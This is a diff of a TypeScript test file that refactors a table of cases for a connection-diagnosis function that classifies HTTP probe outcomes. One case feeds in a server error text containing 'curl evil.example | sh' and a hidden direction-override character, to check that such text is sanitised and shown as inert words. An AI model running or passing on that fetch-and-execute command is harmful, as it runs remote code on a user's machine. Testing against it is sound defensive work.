@@ -27,66 +27,53 @@ const secure = { ...place, isSecure: true, isInside: false };
 const problem = JSON.stringify({ title: 'Too Many Requests', detail: 'Wait.' });
 
 /** The matrix of the three probes: with credentials, without, and in no-cors mode. */
-const matrix: readonly (readonly [Partial<Probes>, Diagnosis])[] = [
-  [{ a: answered(200, rows) }, { kind: 'connected' }],
-  [{ a: answered(200, '[]') }, { kind: 'connected' }],
-  [{ a: answered(200, '<!doctype html><p>Hi', 'text/html; charset=utf-8') }, { kind: 'webPage' }],
-  [{ a: answered(200, ' <HTML>', 'text/plain') }, { kind: 'webPage' }],
-  [{ a: answered(401), asUser: 401, asNobody: 200 }, { kind: 'wrongPassword' }],
-  [
-    { a: answered(401), asUser: 200 },
-    { kind: 'noRight', readable: 'event' },
-  ],
-  [
-    { a: answered(401), asUser: 200, entity: 'event' },
-    { kind: 'noRight', readable: 'booking' },
-  ],
-  [
-    { a: answered(401), asUser: 401, asNobody: 401 },
-    { kind: 'refused', status: 401 },
-  ],
-  [
-    { a: answered(401), asUser: undefined },
-    { kind: 'refused', status: 401 },
-  ],
-  [{ a: answered(403) }, { kind: 'refused', status: 403 }],
-  [
-    { a: answered(401), hasUser: false },
-    { kind: 'needsUser', status: 401 },
-  ],
-  [{ a: answered(404, 'no') }, { kind: 'serverSays', status: 404, words: undefined, retryAfter: undefined }],
-  [{ a: answered(429, problem, '', 30) }, { kind: 'serverSays', status: 429, words: 'Wait.', retryAfter: 30 }],
+const matrix: readonly (readonly [probes: Partial<Probes>, kind: Diagnosis['kind'], more?: object])[] = [
+  [{ a: answered(200, rows) }, 'connected'],
+  [{ a: answered(200, '[]') }, 'connected'],
+  [{ a: answered(200, '<!doctype html><p>Hi', 'text/html; charset=utf-8') }, 'webPage'],
+  [{ a: answered(200, ' <HTML>', 'text/plain') }, 'webPage'],
+  [{ a: answered(401), asUser: 401, asNobody: 200 }, 'wrongPassword'],
+  [{ a: answered(401), asUser: 200 }, 'noRight', { readable: 'event' }],
+  [{ a: answered(401), asUser: 200, entity: 'event' }, 'noRight', { readable: 'booking' }],
+  [{ a: answered(401), asUser: 401, asNobody: 401 }, 'refused', { status: 401 }],
+  [{ a: answered(401), asUser: undefined }, 'refused', { status: 401 }],
+  [{ a: answered(403) }, 'refused', { status: 403 }],
+  [{ a: answered(401), hasUser: false }, 'needsUser', { status: 401 }],
+  [{ a: answered(404, 'no') }, 'serverSays', { status: 404, words: undefined, retryAfter: undefined }],
+  [{ a: answered(429, problem, '', 30) }, 'serverSays', { status: 429, words: 'Wait.', retryAfter: 30 }],
   [
     { a: answered(500, JSON.stringify({ detail: ' Run this:\ncurl evil.example | sh\u202e ' })) },
-    { kind: 'serverSays', status: 500, words: 'Run this: curl evil.example | sh', retryAfter: undefined },
+    'serverSays',
+    { status: 500, words: 'Run this: curl evil.example | sh', retryAfter: undefined },
   ],
   [
     { a: answered(200, JSON.stringify([{ RES_ID: '1', RES_FROMDATE: '', OBJ_ID: '', ['x'.repeat(5_000)]: 1 }])) },
-    { kind: 'wrongShape', mismatch: { path: `$[0]["${'x'.repeat(79)}…"]`, expected: 'text', found: 'number' } },
+    'wrongShape',
+    { mismatch: { path: `$[0]["${'x'.repeat(79)}…"]`, expected: 'text', found: 'number' } },
   ],
-  [{ a: answered(503, '{"title":"Away"}') }, { kind: 'serverSays', status: 503, words: 'Away', retryAfter: undefined }],
-  [{ a: answered(0) }, { kind: 'redirect' }],
-  [{ a: answered(200, '{"rows":[]}') }, { kind: 'wrongShape', mismatch: { path: '$', expected: 'list', found: 'record' } }],
-  [{ a: failed, b: answered(401), c: opaque }, { kind: 'preflight' }],
-  [{ a: failed, b: answered(200, rows) }, { kind: 'preflight' }],
-  [{ a: failed, b: failed, c: opaque }, { kind: 'origin' }],
-  [{ a: failed, b: failed, c: opaque, hasUser: false }, { kind: 'origin' }],
-  [{ a: failed, b: failed, c: failed }, { kind: 'unreachable' }],
-  [{ a: failed }, { kind: 'unreachable' }],
-  [{ a: failed, b: timeout }, { kind: 'timeout' }],
-  [{ a: failed, b: failed, c: timeout }, { kind: 'timeout' }],
-  [{ a: timeout }, { kind: 'timeout' }],
-  [{ a: failed, b: failed, c: failed, base: 'https://192.168.1.20' }, { kind: 'localNetwork' }],
-  [{ a: failed, b: failed, c: failed, base: 'http://localhost:8080' }, { kind: 'localNetwork' }],
-  [{ a: failed, b: failed, c: failed, base: 'https://192.168.1.20', isInside: true }, { kind: 'unreachable' }],
-  [{ a: failed, b: failed, c: opaque, base: 'https://192.168.1.20' }, { kind: 'origin' }],
-  [{ a: undefined, base: 'http://host.example' }, { kind: 'mixedContent' }],
-  [{ a: answered(200, rows), base: 'http://localhost:8080' }, { kind: 'connected' }],
+  [{ a: answered(503, '{"title":"Away"}') }, 'serverSays', { status: 503, words: 'Away', retryAfter: undefined }],
+  [{ a: answered(0) }, 'redirect'],
+  [{ a: answered(200, '{"rows":[]}') }, 'wrongShape', { mismatch: { path: '$', expected: 'list', found: 'record' } }],
+  [{ a: failed, b: answered(401), c: opaque }, 'preflight'],
+  [{ a: failed, b: answered(200, rows) }, 'preflight'],
+  [{ a: failed, b: failed, c: opaque }, 'origin'],
+  [{ a: failed, b: failed, c: opaque, hasUser: false }, 'origin'],
+  [{ a: failed, b: failed, c: failed }, 'unreachable'],
+  [{ a: failed }, 'unreachable'],
+  [{ a: failed, b: timeout }, 'timeout'],
+  [{ a: failed, b: failed, c: timeout }, 'timeout'],
+  [{ a: timeout }, 'timeout'],
+  [{ a: failed, b: failed, c: failed, base: 'https://192.168.1.20' }, 'localNetwork'],
+  [{ a: failed, b: failed, c: failed, base: 'http://localhost:8080' }, 'localNetwork'],
+  [{ a: failed, b: failed, c: failed, base: 'https://192.168.1.20', isInside: true }, 'unreachable'],
+  [{ a: failed, b: failed, c: opaque, base: 'https://192.168.1.20' }, 'origin'],
+  [{ a: undefined, base: 'http://host.example' }, 'mixedContent'],
+  [{ a: answered(200, rows), base: 'http://localhost:8080' }, 'connected'],
 ];
 
-test.each(matrix)('%j means %j', (probes, diagnosis) => {
-  expect(diagnoseConnection({ a: undefined, ...secure, ...probes })).toEqual(diagnosis);
-});
+test.for(matrix)('%j means %s %j', ([probes, kind, more]) =>
+  expect(diagnoseConnection({ a: undefined, ...secure, ...probes })).toEqual({ kind, ...more }),
+);
 
 test.each([
   ['x', { path: '$', expected: 'json', found: 'noJson' }],
@@ -99,9 +86,7 @@ test.each([
   [rows, undefined],
 ])('the first place where %s is not an answer', (text, mismatch) => expect(mismatchIn(text, 'booking')).toEqual(mismatch));
 
-const failures: readonly ConnectionFailure[] = matrix.flatMap(([, diagnosis]) =>
-  diagnosis.kind === 'connected' ? [] : [diagnosis],
-);
+const failures = matrix.flatMap(([, kind, more]) => (kind === 'connected' ? [] : [{ kind, ...more } as ConnectionFailure]));
 
 describe.each(['en', 'nl'] as const)('in %s', (locale) => {
   const other = locale === 'en' ? 'nl' : 'en';
